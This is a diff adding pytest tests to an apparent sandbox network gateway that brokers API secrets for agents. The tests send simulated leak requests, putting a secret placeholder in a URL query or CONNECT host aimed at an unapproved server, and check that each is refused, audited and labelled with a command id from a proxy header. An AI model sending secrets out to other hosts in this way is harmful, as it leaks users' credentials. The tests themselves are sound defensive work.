@@ -8,6 +8,7 @@ that trusts the sandbox CA, or plain HTTP.
 from __future__ import annotations
 
 import asyncio
+import base64
 import json
 import socket
 import ssl
@@ -315,3 +316,80 @@ def test_placeholder_in_a_dns_question_is_refused_and_audited(isolated_home: Pat
     assert asyncio.run(gw.dns_lookup(f"{key.placeholder}.example.com")) is None
     (entry,) = entries("exfiltration")
     assert entry["where"] == "dns" and entry["secret"] == "API_KEY"
+
+
+def proxy_credential(userinfo: str) -> str:
+    return "Basic " + base64.b64encode(userinfo.encode()).decode()
+
+
+@pytest.mark.parametrize("userinfo", ["c-1a2b3c4d:agentkernel", "c-1a2b3c4d:"])
+def test_exfiltration_entry_names_the_command_the_guest_claims(
+    isolated_home: Path, tmp_path: Path, userinfo: str
+) -> None:
+    """The command id from the proxy address (`launcher.proxy_env`) labels the exfiltration entry and
+    the gateway's decision; it is not sent on."""
+
+    async def body() -> None:
+        async with plain_upstream() as (port, received):
+            key = binding("API_KEY", (UPSTREAM,), None)
+            async with brokering_gateway(tmp_path, [Armed(key, SECRET.encode())]) as (sock, _ca):
+                target = f"http://{ELSEWHERE}:{port}"
+                auth = f"Proxy-Authorization: {proxy_credential(userinfo)}\r\n"
+                leak = f"GET {target}/?k={key.placeholder} HTTP/1.1\r\n{auth}\r\n"
+                answer = await asyncio.to_thread(plain_via_gateway, sock, leak.encode())
+                assert answer.startswith(b"HTTP/1.1 403"), answer
+                # A head that does not parse (no host has a '_') still has its command read.
+                leak = f"CONNECT {key.placeholder}.example.com:443 HTTP/1.1\r\n{auth}\r\n"
+                answer = await asyncio.to_thread(plain_via_gateway, sock, leak.encode())
+                assert answer.startswith(b"HTTP/1.1 403"), answer
+                fine = f"GET {target}/ok HTTP/1.1\r\n{auth}\r\n"
+                answer = await asyncio.to_thread(plain_via_gateway, sock, fine.encode())
+                assert answer.startswith(b"HTTP/1.1 200"), answer
+        (sent,) = received
+        assert sent.startswith(b"GET /ok ") and b"proxy-authorization" not in sent.lower()
+
+    run(body())
+    in_url, in_connect = entries("exfiltration")
+    assert in_url["command"] == "c-1a2b3c4d" and in_url["host"] == ELSEWHERE
+    assert in_connect["command"] == "c-1a2b3c4d" and in_connect["where"] == "connect"
+    decisions = entries("network")
+    assert [d["command"] for d in decisions] == ["c-1a2b3c4d"], decisions
+
+
+@pytest.mark.parametrize(
+    "credential",
+    [
+        proxy_credential("c-1A2B3C4D:agentkernel"),  # not the id's format
+        proxy_credential("c-1a2b3c4d0:agentkernel"),
+        proxy_credential("c-1a2b3c4d:other"),
+        proxy_credential("c-1a2b3c4d"),
+        "Bearer c-1a2b3c4d",
+        "Basic !!not-base64!!",
+        "Basic " + "QUFB" * 100,
+    ],
+)
+def test_malformed_command_id_is_ignored_and_never_sent_on(
+    isolated_home: Path, tmp_path: Path, credential: str
+) -> None:
+    async def body() -> None:
+        async with plain_upstream() as (port, received):
+            key = binding("API_KEY", (UPSTREAM,), None)
+            async with brokering_gateway(tmp_path, [Armed(key, SECRET.encode())]) as (sock, _ca):
+                request = (
+                    f"GET http://{ELSEWHERE}:{port}/ HTTP/1.1\r\nProxy-Authorization: {credential}\r\n\r\n"
+                )
+                answer = await asyncio.to_thread(plain_via_gateway, sock, request.encode())
+                assert answer.startswith(b"HTTP/1.1 200"), answer
+                leak = (
+                    f"CONNECT {key.placeholder}.example.com:443 HTTP/1.1\r\n"
+                    f"Proxy-Authorization: {credential}\r\n\r\n"
+                )
+                answer = await asyncio.to_thread(plain_via_gateway, sock, leak.encode())
+                assert answer.startswith(b"HTTP/1.1 403"), answer
+        (sent,) = received
+        assert b"proxy-authorization" not in sent.lower() and credential.split()[-1].encode() not in sent
+
+    run(body())
+    (entry,) = entries("exfiltration")
+    assert entry["command"] is None
+    assert all(d["command"] is None for d in entries("network"))
